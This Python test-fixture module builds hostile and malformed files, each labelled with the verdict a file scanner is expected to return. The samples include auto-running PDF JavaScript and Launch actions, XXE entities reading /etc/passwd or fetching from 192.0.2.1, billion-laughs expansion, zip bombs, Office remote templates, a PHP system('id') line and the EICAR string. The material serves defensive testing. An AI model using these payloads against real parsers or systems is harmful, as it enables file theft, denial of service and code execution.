"""Files made to harm whoever opens them, and files that are broken: (content, code)."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from materials.files.scanning import EICAR
from tests.materials import samples
from tests.materials.old_word import container, old_word
from tests.materials.pdfs import make_pdf
from tests.materials.samples import BAD, TYPES, archive, package

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def pdf(change):
    return lambda: make_pdf(["同志们："], change=change)


def opens(**action):
    """A PDF that acts when it is opened."""
    return pdf(lambda it: it.Root.__setitem__("/OpenAction", Dictionary(**action)))


def annotated(**facts):
    def change(it):
        found = it.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **facts))
        it.pages[0].Annots = Array([found])
        it.Root.AcroForm = Dictionary(Fields=Array([found]))

    return pdf(change)


def script():
    return {"S": Name.JavaScript, "JS": "app.alert(1)"}


def named_script(it):
    names = Array(["x", Dictionary(**script())])
    it.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def packed_script():
    """The script lies in a compressed stream of objects."""
    with pikepdf.open(io.BytesIO(make_pdf(["x"]))) as it:
        it.Root.Hidden = it.make_indirect(Dictionary(A=Array([Dictionary(**script())])))
        stream = io.BytesIO()
        it.save(stream, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in stream.getvalue()
    return stream.getvalue()


def spelt_script():
    """The names are written with codes, as the format allows."""
    return raw(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def raw(*objects):
    """A PDF of these objects, byte for byte."""
    content, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj" % number + body + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\n" % (
        size,
        table,
        size,
    )
    return content + end + b"startxref\n%d\n%%%%EOF\n" % len(content)


def attached(it):
    it.attachments["x.exe"] = b"MZ"


def deep(it):
    inner = Array([])
    for _level in range(60):
        inner = Array([inner])
    it.Root.Deep = inner


def with_archive(content):
    """A picture or a document to one program, an archive to another."""
    return content + archive({"a.txt": "a"})


def concatenated():
    return samples.word() + samples.excel()


def picture(width, height):
    def chunk(kind, content):
        body = kind + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def photo(width, height):
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\0"
    return b"\xff\xd8\xff\xfe\0\x04xx" + frame + b"\xff\xda\0\x02" + bytes(50) + b"\xff\xd9"


def related(
    relation, name="word/_rels/document.xml.rels", main="word/document.xml", encoding="utf-8"
):
    wrapper = "http://schemas.openxmlformats.org/package/2006/relationships"
    text = f'<?xml version="1.0"?><Relationships xmlns="{wrapper}">{relation}</Relationships>'
    return lambda: package(main, {name: text.encode(encoding)})


def fetched(kind, target="http://192.0.2.1/x"):
    return (
        f'<Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="External"/>'
    )


def with_part(content, name="word/styles.xml", main="word/document.xml"):
    return lambda: package(main, {name: content})


def bomb(levels, width):
    """Archives within archives, each many times larger than the one around it."""
    content = bytes(1_000_000)
    for level in range(levels):
        content = archive({f"{level}-{number}.zip": content for number in range(width)})
    return content


def huge_numbers():
    """An entry that claims four gigabytes."""
    content = bytearray(package(more={"word/a.xml": "<a/>"}))
    place = content.rindex(b"PK\x01\x02")
    content[place + 20 : place + 28] = b"\xff\xff\xff\xff\xfe\xff\xff\xff"
    return bytes(content)


def twice():
    with zipfile.ZipFile(stream := io.BytesIO(), "w") as file:
        for name, content in (("[Content_Types].xml", TYPES), ("word/document.xml", "<a/>")):
            file.writestr(name, content)
        file.filelist.append(file.filelist[-1])
    return stream.getvalue()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]><a/>'
PAGE = "<html><body onload=alert(1)>"

NEW = {
    "script.pdf": (opens(**script()), "unsafe_document"),
    "named script.pdf": (pdf(named_script), "unsafe_document"),
    "packed script.pdf": (packed_script, "unsafe_document"),
    "spelt script.pdf": (spelt_script, "unsafe_document"),
    "page script.pdf": (
        pdf(lambda it: it.pages[0].__setitem__("/AA", Dictionary(O=Dictionary(**script())))),
        "unsafe_document",
    ),
    "button.pdf": (annotated(Subtype=Name.Widget, A=Dictionary(**script())), "unsafe_document"),
    "launch.pdf": (opens(S=Name.Launch, F="cmd.exe"), "unsafe_document"),
    "link that launches.pdf": (
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F="a.sh")),
        "unsafe_document",
    ),
    "submit.pdf": (opens(S=Name.SubmitForm, F="http://192.0.2.1/"), "unsafe_document"),
    "import.pdf": (opens(S=Name.ImportData, F="a.fdf"), "unsafe_document"),
    "embedded target.pdf": (opens(S=Name.GoToE), "unsafe_document"),
    "movie.pdf": (annotated(Subtype=Name.Movie), "unsafe_document"),
    "flash.pdf": (annotated(Subtype=Name.RichMedia), "unsafe_document"),
    "model.pdf": (annotated(Subtype=Name("/3D")), "unsafe_document"),
    "pinned.pdf": (annotated(Subtype=Name.FileAttachment), "unsafe_document"),
    "attached.pdf": (pdf(attached), "unsafe_document"),
    "xfa.pdf": (
        pdf(lambda it: it.Root.__setitem__("/AcroForm", Dictionary(XFA=it.make_stream(b"<x/>")))),
        "unsafe_document",
    ),
    "deep.pdf": (pdf(deep), "unsafe_document"),
    "locked.pdf": (lambda: make_pdf(["x"], password="x"), "encrypted_file"),
    "no pages.pdf": (lambda: make_pdf([]), "broken_file"),
    "noise.pdf": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"\n%%EOF\n", "broken_file"),
    "empty.pdf": (lambda: b"%PDF-1.7\n%%EOF\n", "broken_file"),
    "no catalog.pdf": (
        lambda: make_pdf(["x"]).replace(b"/Type /Catalog", b"/Type /Nothing").replace(b"/Pages ", b"/Pagez "),
        "broken_file",
    ),
    "half.pdf": (lambda: make_pdf(["同志们：" * 50])[:500] + b"\n%%EOF\n", "broken_file"),
    "archive.pdf": (lambda: with_archive(make_pdf(["x"])), "unsafe_document"),
    "archive.jpg": (lambda: with_archive(photo(10, 10)), "unsafe_document"),
    "archive.png": (lambda: with_archive(samples.png()), "unsafe_document"),
    "page before.pdf": (lambda: PAGE.encode() + make_pdf(["x"]), "unsupported_type"),
    "two.docx": (concatenated, "unsafe_document"),
    "program behind.docx": (lambda: package() + b"MZ" + bytes(70_000), "broken_file"),
    "flood.png": (lambda: picture(60_000, 60_000), "picture_too_large"),
    "flood.jpg": (lambda: photo(65_000, 65_000), "picture_too_large"),
    "headless.png": (lambda: b"\x89PNG\r\n\x1a\nIEND\xaeB`\x82", "broken_file"),
    "template.docx": (related(fetched("attachedTemplate")), "unsafe_document"),
    "settings.docx": (
        related(fetched("attachedTemplate"), "word/_rels/settings.xml.rels"),
        "unsafe_document",
    ),
    "picture from afar.docx": (related(fetched("image")), "unsafe_document"),
    "object from afar.docx": (related(fetched("oleObject", "mhtml:http://192.0.2.1!x")), "unsafe_document"),
    "frame.docx": (related(fetched("frame")), "unsafe_document"),
    "part.docx": (related(fetched("subDocument", "file://192.0.2.1/x")), "unsafe_document"),
    "single quotes.docx": (related(fetched("image").replace('"', "'")), "unsafe_document"),
    "coded.docx": (related(fetched("image").replace("External", "&#69;xternal")), "unsafe_document"),
    "pointed.docx": (related(fetched("image", "a>b")), "unsafe_document"),
    "prefixed.docx": (related(fetched("image").replace("<", "<r:")), "unsafe_document"),
    "wide.docx": (related(fetched("image"), encoding="utf-16"), "unsafe_document"),
    "film from afar.pptx": (
        related(fetched("video"), "ppt/slides/_rels/slide1.xml.rels", "ppt/presentation.xml"),
        "unsafe_document",
    ),
    "book from afar.xlsx": (
        related(fetched("externalLinkPath"), "xl/externalLinks/_rels/a.xml.rels", "xl/workbook.xml"),
        "unsafe_document",
    ),
    "laughs.docx": (with_part(f"<!DOCTYPE a [{LAUGHS}]><a>&l9;</a>"), "unsafe_document"),
    "reads a file.docx": (with_part(XXE), "unsafe_document"),
    "asks a server.docx": (with_part(PARAMETER), "unsafe_document"),
    "reads a file.xlsx": (with_part(XXE, "xl/a.xml", "xl/workbook.xml"), "unsafe_document"),
    "reads a file.pptx": (with_part(XXE, "ppt/a.xml", "ppt/presentation.xml"), "unsafe_document"),
    "in relations.docx": (with_part(XXE, "_rels/.rels"), "unsafe_document"),
    "drawn.docx": (with_part(XXE, "word/drawing.vml"), "unsafe_document"),
    "big endian.docx": (with_part(XXE.encode("utf-16-be")), "unsafe_document"),
    "bomb.zip": (lambda: bomb(3, 10), "archive_too_large"),
    "bomb as word.docx": (lambda: bomb(3, 10), "archive_too_large"),
    "bomb inside.docx": (lambda: package(more={"word/a.docx": bomb(2, 40)}), "archive_too_large"),
    "four gigabytes.docx": (huge_numbers, "archive_too_large"),
    "same name twice.docx": (twice, "unsafe_document"),
    "nul name.docx": (
        lambda: package(more={"word/a_.xml": "x"}).replace(b"a_.xml", b"a\0.xml"),
        "unsafe_document",
    ),
    "macros.pptx": (with_part(b"x", "ppt/vbaProject.bin", "ppt/presentation.xml"), "macros_inside"),
    "macros.xlsm": (with_part(b"x", "xl/vbaProject.bin", "xl/workbook.xml"), "macros_inside"),
    "data of macros.docx": (with_part(b"x", "word/vbaData.xml"), "macros_inside"),
    "macros.ppt": (lambda: samples.compound("PowerPoint Document", "VBA"), "macros_inside"),
    "macros in old.doc": (
        lambda: old_word("x", streams={"Macros": b"x", "_VBA_PROJECT": b"x"}),
        "macros_inside",
    ),
    "locked.xlsx": (lambda: container({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}), "encrypted_file"),
    "eicar.txt": (lambda: EICAR, "malware_found"),
    "eicar with blanks.txt": (lambda: EICAR + b"\r\n \t", "malware_found"),
    "eicar.com": (lambda: EICAR, "wrong_extension"),
    "page in wide letters.txt": (lambda: PAGE.encode("utf-16"), "unsupported_type"),
    "page with mark.txt": (lambda: PAGE.encode("utf-8-sig"), "unsupported_type"),
    "page.xhtml": (lambda: b"<?xml version='1.0'?><html/>", "unsupported_type"),
    "page.hta": (lambda: b"<script>new ActiveXObject('x')</script>", "unsupported_type"),
    "drawing.png": (lambda: b"<svg onload='alert(1)'/>", "unsupported_type"),
    "drawing with comment.txt": (lambda: b"<!-- a --><!-- b -->\n<svg/>", "unsupported_type"),
    "page.php": (lambda: b"<?php system('id');", "unsupported_type"),
    "note.rtf": (lambda: b"{\\rtf1 \\objdata x}", "wrong_extension"),
    "note.doc": (lambda: b"{\\rtf1 \\objdata x}", "wrong_extension"),
    "shortcut.url": (lambda: b"[InternetShortcut]\nURL=file://192.0.2.1\n", "wrong_extension"),
    "batch.bat": (lambda: b"@echo off\r\n", "wrong_extension"),
    "shell.ps1": (lambda: b"Invoke-Expression x\n", "wrong_extension"),
    "shortcut.lnk": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(99), "unsupported_type"),
    "class.txt": (lambda: b"\xca\xfe\xba\xbe\0\0\x004" + bytes(99), "unsupported_type"),
    "packed.7z": (lambda: b"7z\xbc\xaf'\x1c\0\x04" + bytes(99), "unsupported_type"),
    "packed.gz": (lambda: zlib.compress(b"x" * 999, wbits=31), "unsupported_type"),
    "image.tiff": (lambda: b"II*\0\x08\0\0\0" + bytes(99), "unsupported_type"),
    "image.bmp": (lambda: b"BM" + bytes(99), "unsupported_type"),
    "image.webp": (lambda: b"RIFF\x10\0\0\0WEBPVP8 " + bytes(99), "unsupported_type"),
    "sound.mp3": (lambda: b"ID3\x03\0\0\0\0\0\0" + bytes(99), "unsupported_type"),
    "base.sqlite": (lambda: b"SQLite format 3\0" + bytes(99), "unsupported_type"),
    "module.wasm": (lambda: b"\0asm\x01\0\0\0" + bytes(99), "unsupported_type"),
    "book.epub": (lambda: archive({"mimetype": "application/epub+zip"}), "unsupported_type"),
    "text.odt": (lambda: archive({"mimetype": "x", "content.xml": "<x/>"}), "unsupported_type"),
    "cut.xlsx": (lambda: samples.excel()[:-30], "broken_file"),
    "cut.pptx": (lambda: samples.slides_with_chart()[:900], "broken_file"),
    "cut in the middle.doc": (lambda: old_word("同志们：" * 900)[:700], "broken_file"),
    "photo.png": (lambda: photo(9, 9), "wrong_extension"),
    "stamp.jpg": (samples.png, "wrong_extension"),
    "film.pdf": (samples.mp4, "wrong_extension"),
    **{f"empty.{kind}": (lambda: b"", "empty_file") for kind in ("docx", "pdf", "png", "mp4", "html")},
}  # fmt: skip
HOSTILE = BAD | NEW
